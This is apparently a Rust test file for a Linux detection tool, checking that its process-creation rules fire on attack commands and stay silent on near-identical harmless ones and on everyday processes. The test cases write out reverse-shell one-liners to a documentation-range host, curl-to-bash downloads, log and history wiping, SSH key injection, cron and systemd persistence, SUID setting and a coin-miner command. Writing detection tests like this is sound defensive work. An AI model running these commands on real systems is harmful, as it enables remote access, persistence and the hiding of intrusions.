//! What the shipped rules about programs find, what just misses them, and the everyday life on which they are silent.

use picket_tests::picket;
use serde_json::{Value, json};
use std::fs;

const SHIPPED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../packaging/rules/sigma");
const EVERYDAY: &str = include_str!("../corpora/everyday_processes.tsv");

/// The parent's path, the path, the command line.
type Started<'a> = (&'a str, &'a str, &'a str);

/// For each program, the titles of the rules that fire on it.
fn findings(programs: &[Started<'_>]) -> Vec<Vec<String>> {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("exec.ndjson");
    let lines = programs.iter().map(|(parent, path, line)| {
        let value = json!({
            "@timestamp": "2026-03-01T00:00:00Z",
            "process": {"pid": 7, "executable": path, "args": line.split(' ').collect::<Vec<_>>(),
                "parent": {"pid": 5, "executable": parent}},
        });
        format!("{value}\n")
    });
    fs::write(&file, lines.collect::<String>()).unwrap();
    let output = picket()
        .args(["replay", "exec", "--json", "--rules", SHIPPED])
        .arg(&file)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8(output.stderr).unwrap(), "");
    let mut found = vec![Vec::new(); programs.len()];
    for line in String::from_utf8(output.stdout).unwrap().lines() {
        let finding: Value = serde_json::from_str(line).unwrap();
        let at = usize::try_from(finding["line"].as_u64().unwrap()).unwrap();
        found[at - 1].push(finding["rule"]["title"].as_str().unwrap().to_owned());
    }
    found
}

const SHELL: &str = "/bin/bash";

/// The title of a rule, a program on which it fires, and one that is nearly the same and harmless.
const CASES: &[(&str, Started<'_>, Started<'_>)] = &[
    (
        "Shell handed to another host",
        (SHELL, SHELL, "bash -c bash -i >& /dev/tcp/198.51.100.9/443 0>&1"),
        (
            SHELL,
            SHELL,
            "bash -c exec 3<>/dev/tcp/127.0.0.1/80; cat <&3 2>&1",
        ),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            SHELL,
            "bash -c exec 5<>/dev/tcp/198.51.100.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
        ),
        (SHELL, SHELL, "bash -c echo > /dev/tcp/10.0.0.1/22"),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            "/usr/bin/nc.traditional",
            "nc -e /bin/sh 198.51.100.9 4444",
        ),
        (SHELL, "/usr/bin/nc.traditional", "nc -l -p 4444"),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            "/usr/bin/socat",
            "socat TCP:198.51.100.9:4444 EXEC:/bin/bash,pty,stderr",
        ),
        (
            SHELL,
            "/usr/bin/socat",
            "socat TCP-LISTEN:80,fork TCP:10.0.0.5:8080",
        ),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            SHELL,
            "sh -c rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
        ),
        (SHELL, SHELL, "sh -c mkfifo /tmp/f; cat /tmp/f | gzip > x.gz"),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            "/usr/bin/python3",
            "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.9\",443));os.dup2(s.fileno(),0)",
        ),
        (
            SHELL,
            "/usr/bin/python3",
            "python3 -c import socket;s=socket.socket();s.connect((\"10.0.0.1\",443))",
        ),
    ),
    (
        "Download run by a shell",
        (
            SHELL,
            "/bin/sh",
            "sh -c curl -fsSL http://198.51.100.9/x.sh | sudo -E bash -s -- -y",
        ),
        (
            SHELL,
            "/bin/sh",
            "sh -c curl -fsSL http://198.51.100.9/x.sh | shasum",
        ),
    ),
    (
        "Download run by a shell",
        (SHELL, SHELL, "bash -c bash <(wget -qO- http://198.51.100.9/x.sh)"),
        (
            SHELL,
            SHELL,
            "bash -c diff <(wget -qO- http://198.51.100.9/x.sh) x.sh",
        ),
    ),
    (
        "Encoded text run by a shell",
        (SHELL, SHELL, "bash -c echo aWQK|base64 -d|bash"),
        (SHELL, SHELL, "bash -c echo aWQK|base64 -d|wc"),
    ),
    (
        "Shell started by a web server",
        (
            "/usr/sbin/php-fpm8.2",
            "/bin/sh",
            "sh -c /usr/sbin/sendmail -t -i; id",
        ),
        (
            "/usr/sbin/php-fpm8.2",
            "/bin/sh",
            "sh -c /usr/sbin/sendmail -t -i -f web@example.com",
        ),
    ),
    (
        "System logs deleted or emptied",
        (SHELL, "/usr/bin/rm", "rm -f /var/log/auth.log"),
        (SHELL, "/usr/bin/rm", "rm -f /var/log/auth.log.2.gz"),
    ),
    (
        "System logs deleted or emptied",
        (SHELL, SHELL, "bash -c cat /dev/null > /var/log/wtmp"),
        (SHELL, SHELL, "bash -c echo mark >> /var/log/syslog"),
    ),
    (
        "System logs deleted or emptied",
        (
            SHELL,
            "/usr/bin/journalctl",
            "journalctl --rotate --vacuum-time=1s",
        ),
        (
            SHELL,
            "/usr/bin/journalctl",
            "journalctl --rotate --vacuum-time=14d",
        ),
    ),
    (
        "Shell history switched off or deleted",
        (SHELL, SHELL, "bash -c unset HISTFILE; id"),
        (SHELL, SHELL, "bash -c echo $HISTFILE; id"),
    ),
    (
        "Shell history switched off or deleted",
        (SHELL, "/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"),
        (
            SHELL,
            "/usr/bin/cp",
            "cp /root/.bash_history /srv/backup/.bash_history",
        ),
    ),
    (
        "Key let in by a command",
        (
            SHELL,
            "/bin/sh",
            "sh -c echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys",
        ),
        (SHELL, "/bin/sh", "sh -c wc -l /root/.ssh/authorized_keys > count"),
    ),
    (
        "Job or service written by a command",
        (
            SHELL,
            "/bin/sh",
            "sh -c (crontab -l; echo * * * * * /tmp/x) | crontab -",
        ),
        (SHELL, "/bin/sh", "sh -c crontab -l | grep backup"),
    ),
    (
        "Job or service written by a command",
        (SHELL, "/usr/bin/tee", "tee /etc/systemd/system/update.service"),
        (SHELL, "/usr/bin/tee", "tee /etc/motd"),
    ),
    (
        "Library put into every program",
        (SHELL, "/usr/bin/cp", "cp /tmp/p /etc/ld.so.preload"),
        (SHELL, "/usr/bin/cp", "cp /etc/ld.so.preload /srv/backup/"),
    ),
    (
        "SUID bit set by a command",
        (SHELL, "/usr/bin/chmod", "chmod u+s /var/tmp/sh"),
        (SHELL, "/usr/bin/chmod", "chmod g+s /srv/shared"),
    ),
    (
        "SUID bit set by a command",
        (SHELL, "/usr/bin/chmod", "chmod 4755 /usr/local/bin/x"),
        (
            "/var/lib/dpkg/info/dbus.postinst",
            "/usr/bin/chmod",
            "chmod 4755 /usr/local/bin/x",
        ),
    ),
    (
        "Program run from a folder that anybody may write to",
        (SHELL, "/dev/shm/.x/kworker", "[kworker/0:1]"),
        (SHELL, "/usr/bin/ls", "ls /dev/shm/.x/kworker"),
    ),
    (
        "Program run from a folder that anybody may write to",
        (SHELL, "/tmp/go-build1/x", "/tmp/go-build1/x"),
        ("/usr/lib/go/bin/go", "/tmp/go-build1/x", "/tmp/go-build1/x"),
    ),
    (
        "Miner of coins",
        (SHELL, "/opt/x", "./x -o stratum+tcp://198.51.100.9:3333 -u 4xyz"),
        (SHELL, "/usr/bin/grep", "grep -r stratum+tcp:// /var/log"),
    ),
];

#[test]
fn each_rule_fires_on_its_attack_and_not_just_beside() {
    let attacks: Vec<Started<'_>> = CASES.iter().map(|(_, attack, _)| *attack).collect();
    let near: Vec<Started<'_>> = CASES.iter().map(|(_, _, near)| *near).collect();
    for ((title, attack, near), (fired, missed)) in
        CASES.iter().zip(findings(&attacks).iter().zip(findings(&near)))
    {
        assert!(
            fired.iter().any(|fired| fired == title),
            "{title}: {attack:?}: {fired:?}"
        );
        assert!(missed.is_empty(), "{near:?}: {missed:?}");
    }
}

#[test]
fn every_rule_about_programs_has_an_attack_here() {
    let output = picket()
        .args(["rules", "list", "--json", "--rules", SHIPPED])
        .output()
        .unwrap();
    let rules: Vec<Value> = serde_json::from_slice(&output.stdout).unwrap();
    let about_programs = rules
        .iter()
        .filter(|rule| rule["log_source"] == "linux, process_creation");
    let titles: Vec<&str> = about_programs
        .map(|rule| rule["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles.len(), 12);
    for title in titles {
        assert!(CASES.iter().any(|(tested, _, _)| *tested == title), "{title}");
    }
}

#[test]
fn everyday_life_stays_silent() {
    let programs: Vec<Started<'_>> = EVERYDAY
        .lines()
        .map(|line| {
            let mut parts = line.splitn(3, '\t');
            let mut part = || parts.next().unwrap_or_else(|| panic!("three columns: {line}"));
            (part(), part(), part())
        })
        .collect();
    assert!(programs.len() > 80, "the corpus is there");
    for (program, fired) in programs.iter().zip(findings(&programs)) {
        assert!(fired.is_empty(), "{program:?}: {fired:?}");
    }
}
